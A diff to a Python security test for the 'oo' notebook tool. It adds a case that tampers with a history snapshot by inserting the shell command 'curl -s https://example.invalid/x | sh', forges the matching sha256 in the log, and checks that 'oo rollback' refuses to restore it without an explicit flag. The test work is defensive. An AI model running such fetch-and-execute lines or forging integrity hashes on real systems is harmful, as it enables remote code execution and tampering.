@@ -3,10 +3,16 @@ issue 28 from outside and counts the breaks found.
 
 - ``bash DOC`` and ``bash index.o-o.html`` in a cloned library holding a folder ``oo_nb/`` (or a
   ``python3`` of its own, with ``.`` in PATH): a break is the planted code running.
+- ``oo rollback`` to a planted snapshot (its log row and hash made to match) whose shell adds a
+  command: a break is the planted shell restored without --allow-unknown-code.
 """
 
 from __future__ import annotations
 
+import contextlib
+import hashlib
+import io
+import json
 import os
 import subprocess
 import sys
@@ -16,7 +22,7 @@ from pathlib import Path
 
 from tests.support.figures import Figure
 
-__all__ = ["PLANTED_CASES", "attacks", "planted_code_runs"]
+__all__ = ["PLANTED_CASES", "attacks", "plant_snapshot", "planted_code_runs", "rollback"]
 
 PART = "8 attack"
 _MARK = "import pathlib; pathlib.Path({where!r}).write_text('planted code ran')\n"
@@ -107,9 +113,60 @@ def _planted(workdir: Path) -> Figure:
     return _row("planted oo_nb/ or python3 in the library run by bash PAGE", trials, breaks)
 
 
+# --------------------------------------------------------------------------- planted snapshot
+PLANTED_LINE = "curl -s https://example.invalid/x | sh\n"
+
+
+def plant_snapshot(folder: Path) -> Path:
+    """A document with one kept state (seq 1) whose snapshot got a planted shell command, its
+    log row's hash made to match: history a clone or a hand edit can bring."""
+    from oo_nb.cli.main import main
+    from oo_nb.edit.new import NewSpec, create_document
+    from oo_nb.store.history import history_dir
+
+    folder.mkdir(parents=True)
+    create_document(NewSpec("Solar storms", "grid"), folder)
+    path = folder / "solar-storms.o-o.html"
+    with contextlib.redirect_stdout(io.StringIO()):
+        assert main(["contract", str(path), "--set", "budget", "2"]) == 0
+    log = history_dir(path) / "log.jsonl"
+    row = json.loads(log.read_text().splitlines()[0])
+    snapshot = log.parent / "snapshots" / row["file"]
+    data = snapshot.read_bytes().replace(
+        b"oo_require_python\ncase", b"oo_require_python\n" + PLANTED_LINE.encode() + b"case", 1
+    )
+    assert PLANTED_LINE.encode() in data
+    snapshot.write_bytes(data)
+    row["sha256"] = hashlib.sha256(data).hexdigest()
+    log.write_text(json.dumps(row) + "\n")
+    return path
+
+
+def rollback(path: Path, *extra: str) -> tuple[int, str]:
+    """``oo rollback PATH --seq 1 EXTRA``: (exit status, stderr)."""
+    from oo_nb.cli.main import main
+
+    err = io.StringIO()
+    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
+        code = main(["rollback", str(path), "--seq", "1", *extra])
+    return code, err.getvalue()
+
+
+def _planted_snapshot(workdir: Path) -> Figure:
+    path = plant_snapshot(workdir / "refused")
+    before = path.read_bytes()
+    code, said = rollback(path)
+    breaks = int(code == 0 or path.read_bytes() != before or "OO:SHELL section" not in said)
+    # asked for, it is restored
+    path = plant_snapshot(workdir / "allowed")
+    code, _ = rollback(path, "--allow-unknown-code")
+    breaks += code != 0 or PLANTED_LINE not in path.read_text()
+    return _row("planted shell restored by oo rollback without asking", 2, breaks)
+
+
 def attacks(workdir: Path) -> list[Figure]:
     workdir.mkdir(parents=True, exist_ok=True)
-    steps: list[Callable[[Path], Figure]] = [_planted]
+    steps: list[Callable[[Path], Figure]] = [_planted, _planted_snapshot]
     return [step(workdir / step.__name__.strip("_")) for step in steps]
 
 
